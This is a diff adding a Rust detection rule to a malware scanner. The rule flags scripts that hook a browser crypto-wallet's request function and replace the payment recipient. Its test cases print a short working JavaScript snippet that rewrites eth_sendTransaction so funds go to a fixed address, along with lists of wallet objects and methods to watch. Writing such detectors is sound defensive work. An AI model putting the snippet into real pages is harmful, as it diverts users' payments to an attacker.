@@ -1,0 +1,52 @@
+//! `wallet-requests-rewritten`.
+
+use crate::facts::Atom;
+use crate::signals::near::Near;
+use crate::signals::{Evidence, Held, Signal, one};
+use crate::stream::Kind;
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "wallet-requests-rewritten",
+    description: "The script replaces how a page asks the wallet and puts an account of its own where the page says whom to pay.",
+    severity: Severity::High,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::AccountAddress]), one(&[Atom::WalletObject, Atom::Wallet])],
+    within: 200,
+    only_if: Some(rewrites),
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].to='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';return o(a)}"#,
+        ],
+        without: &[
+            r#"const o=window.ethereum.request.bind(window.ethereum);window.ethereum.request=async a=>{if(a.method==='eth_sendTransaction')a.params[0].gas='0x5208';log('0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f');return o(a)}"#,
+            r#"window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f',value}]})"#,
+            r#"const tx={};tx.to='0x91b2fa3C6634c0532925a3b844bC9ee3A5D0b12f';await window.ethereum.request({method:'eth_sendTransaction',params:[tx]})"#,
+        ],
+    },
+};
+
+fn rewrites(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 60);
+    let hooked = near.words(ASKS).any(|at| {
+        near.is(at + 1, b'=')
+            && (WALLETS.contains(&near.word(at.wrapping_sub(1)))
+                || near.word(at.wrapping_sub(1)) == "prototype")
+    });
+    hooked
+        && near
+            .words(&["to", "toPubkey", "recipient"])
+            .any(|at| at > 0 && near.is(at + 1, b'=') && is_part(near, at))
+}
+
+/// Whether a word is a part of something else: `params[0].to`.
+fn is_part(near: Near<'_>, at: usize) -> bool {
+    near.kind(at) == Some(Kind::Member)
+}
+
+/// How a wallet is asked.
+const ASKS: &[&str] =
+    &["request", "send", "sendAsync", "sendTransaction", "signTransaction", "signAndSendTransaction"];
+/// What pages call wallets.
+const WALLETS: &[&str] = &["ethereum", "provider", "solana", "tronWeb", "trx", "phantom", "signer", "wallet"];
